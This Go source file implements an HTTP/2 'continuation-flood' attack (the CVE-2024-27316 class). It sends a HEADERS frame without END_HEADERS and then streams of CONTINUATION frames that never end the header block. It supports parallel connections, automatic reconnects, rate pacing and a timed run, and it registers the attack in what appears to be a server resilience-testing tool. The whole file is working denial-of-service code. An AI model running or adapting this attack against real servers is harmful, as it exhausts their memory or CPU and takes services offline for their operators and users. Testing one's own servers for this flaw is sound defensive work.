package h2attack

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ContinuationFloodParams: continuation-flood (CVE-2024-27316 and the
// April 2024 CONTINUATION family, e.g. CVE-2023-45288 in Go) opens a stream
// with a HEADERS frame without END_HEADERS and follows it with CONTINUATION
// frames that never end the header block. A server that keeps decoding
// (and keeping) what the frames carry until END_HEADERS buffers without
// bound; one that counts only decoded bytes spins on empty frames. A
// healthy server stops at its header list limit and closes the connection
// (GOAWAY, or a close), or RSTs the stream.
type ContinuationFloodParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Frames is CONTINUATION frames per connection. Default 100000.
	Frames int `yaml:"frames"`
	// FrameBytes is the header-block bytes each frame carries (literal
	// fields); 0 sends empty frames. At most the server's
	// SETTINGS_MAX_FRAME_SIZE (16384 unless it announced more). Default 1024.
	FrameBytes int `yaml:"frame_bytes"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is frames per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 10000.
	Rate float64 `yaml:"-"`
}

// DefaultContinuationFlood returns continuation-flood's defaults.
func DefaultContinuationFlood() ContinuationFloodParams {
	return ContinuationFloodParams{Connections: 1, Reconnect: true, Frames: 100_000, FrameBytes: 1024, Duration: 30 * time.Second, Rate: 10_000}
}

func (p *ContinuationFloodParams) limits() limits {
	return limits{connections: p.Connections, count: p.Frames, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *ContinuationFloodParams) Validate() error {
	if p.FrameBytes < 0 || p.FrameBytes > 1<<24-1 {
		return fmt.Errorf("continuation-flood: frame_bytes must be within [0, 16777215], got %d", p.FrameBytes)
	}
	return p.limits().validate("continuation-flood", "frames")
}

// SetRate implements Params.
func (p *ContinuationFloodParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *ContinuationFloodParams) Pace() float64 { return p.Rate }

// floodFragment returns about n bytes of header block: never-indexed
// literal fields "x-flood: aaa…" (they leave the dynamic table alone, so
// every frame can carry the same bytes).
func floodFragment(n int) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	field := func(v int) []byte {
		var b bytes.Buffer
		e := hpack.NewEncoder(&b)
		_ = e.WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", v), Sensitive: true})
		return b.Bytes()
	}
	const chunk = 64
	one := field(chunk)
	for buf.Len()+len(one) <= n {
		_ = enc.WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", chunk), Sensitive: true})
	}
	if rest := n - buf.Len(); rest > 0 {
		for v := rest; v >= 0; v-- {
			if f := field(v); len(f) <= rest {
				buf.Write(f)
				break
			}
		}
	}
	return buf.Bytes()
}

// Run implements Params.
func (p *ContinuationFloodParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "continuation-flood", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "continuation-flood", lim: p.limits(),
		describe: fmt.Sprintf("one HEADERS without END_HEADERS, then CONTINUATION frames of %d bytes that never end it", p.FrameBytes),
		loop: func(ctx context.Context, c *conn) (string, error) {
			id, ok := c.newStream()
			if !ok {
				return "", errIDsExhausted
			}
			block := c.requestBlock(false)
			if err := c.send(1, func(fr *http2.Framer) error {
				c.blockOpen = true // under wmu: no ack may come between the block's frames
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: false})
			}); err != nil {
				return "", err
			}
			frag := floodFragment(min(p.FrameBytes, int(c.maxFr)))
			return c.pace(ctx, p.Frames, p.Rate, func(int) error {
				return c.send(1, func(fr *http2.Framer) error { return fr.WriteContinuation(id, false, frag) })
			})
		}}, report)
}

func init() {
	register(Attack{Name: "continuation-flood", Summary: "CONTINUATION frames that never end the header block (CVE-2024-27316 class)",
		Params: func() Params { p := DefaultContinuationFlood(); return &p }})
}
